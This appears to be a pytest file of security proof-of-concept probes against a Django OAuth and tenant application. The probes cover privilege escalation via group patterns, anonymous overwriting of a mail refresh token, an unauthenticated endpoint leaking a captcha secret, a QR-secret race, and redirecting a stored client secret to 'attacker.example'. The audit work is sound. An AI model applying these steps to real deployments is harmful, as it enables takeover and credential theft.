import threading
from unittest import mock
from urllib.parse import parse_qs, urlsplit

import pytest
from django.test import Client

from oauth import mobile
from oauth.tests.test_flow import _login, _tokens
from oauth.tests.test_mail_oauth import root as mail_root  # noqa: F401
from tbproject.api import role_hook
from tbproject.api.tokens import decode_access
from tbproject.testing.fixtures import api_as
from tenants.models import Tenant, User
from tenants.system import store

pytestmark = pytest.mark.django_db


def test_groups_pattern_still_makes_full_tenant_admin(idp, make_client):
    Tenant.objects.create(title="example.org")
    client = make_client(basic={"userGroupsNamePattern": ["Tenant Users"]})
    _tokens(_login(idp, client)[0])
    user = User.objects.get(email="jane@example.org")
    groups = sorted(user.entity_groups.values_list("name", flat=True))
    print("GROUPS", groups, "ALL/ALL:", role_hook.permits(user, "ALL", "ALL"))


def test_anonymous_overwrites_mail_refresh_token(mail_root, idp):
    code = idp.issue_code("http://testserver/api/admin/mail/oauth2/code", None)  # attacker's own consent code
    anon = Client()
    anon.cookies["mail_oauth2_state"] = "x"
    answer = anon.get("/api/admin/mail/oauth2/code", {"code": code, "state": "x"})
    print("ANON", answer.status_code, store.read("mail").get("refreshToken"), store.read("mail").get("tokenGenerated"))


def test_noauth_mobile_leaks_captcha_secret(sysadmin):
    root = api_as(sysadmin)
    app = root.post("/api/mobile/app", {"pkgName": "org.x", "platformType": "ANDROID", "status": "PUBLISHED",
                                        "appSecret": "0123456789abcdef-app"}, format="json").json()
    root.post("/api/mobile/bundle", {"title": "B", "androidAppId": app["id"], "selfRegistrationParams": {
        "enabled": True, "captcha": {"version": "v2", "siteKey": "site", "secretKey": "TOP-SECRET-CAPTCHA"},
        "notificationRecipient": {"entityType": "USER", "id": "x"}}}, format="json")
    body = Client().get("/api/noauth/mobile", {"pkgName": "org.x", "platform": "ANDROID"}).content
    print("NOAUTH", body)


def test_qr_secret_two_takers():
    from django.contrib.auth import get_user_model
    user = get_user_model()(pk="6f1c7f3e-2b4c-4d5e-9f00-000000000001")
    secret = mobile.new_secret(user)
    barrier = threading.Barrier(2)
    real_get = mobile.cache.get

    def slow_get(key, *a):
        value = real_get(key, *a)
        barrier.wait(timeout=5)
        return value
    results = []
    with mock.patch.object(mobile.cache, "get", slow_get):
        threads = [threading.Thread(target=lambda: results.append(mobile.take_secret(secret))) for _ in range(2)]
        [t.start() for t in threads]
        [t.join() for t in threads]
    print("QR TAKERS", results)


def test_sysadmin_logs_in_through_a_provider(idp, make_client, sysadmin):
    idp.user["email"] = sysadmin.email
    claims = decode_access(_tokens(_login(idp, make_client(allowUserCreation=False))[0])["token"])
    print("SYSADMIN", claims["scopes"], claims["sub"])


def test_long_tenant_name_is_a_500(idp, make_client):
    Tenant.objects.create(title="A" * 255)
    idp.user["dept"] = "A" * 300
    client = make_client(basic={"tenantNameStrategy": "CUSTOM", "tenantNamePattern": "%{dept}"})
    try:
        loc = _login(idp, client)[0]
        print("LONG", loc)
    except Exception as e:
        print("LONG raised", type(e).__name__, str(e)[:80])


def test_masked_secret_follows_new_token_uri(sysadmin, idp, make_client):
    from oauth import services
    from oauth.rendering import client_json
    c = make_client()
    body = client_json(c)
    body["accessTokenUri"] = "http://attacker.example/token"
    saved = services.save_client(body)
    print("KEPT", saved.client_secret, saved.access_token_uri)
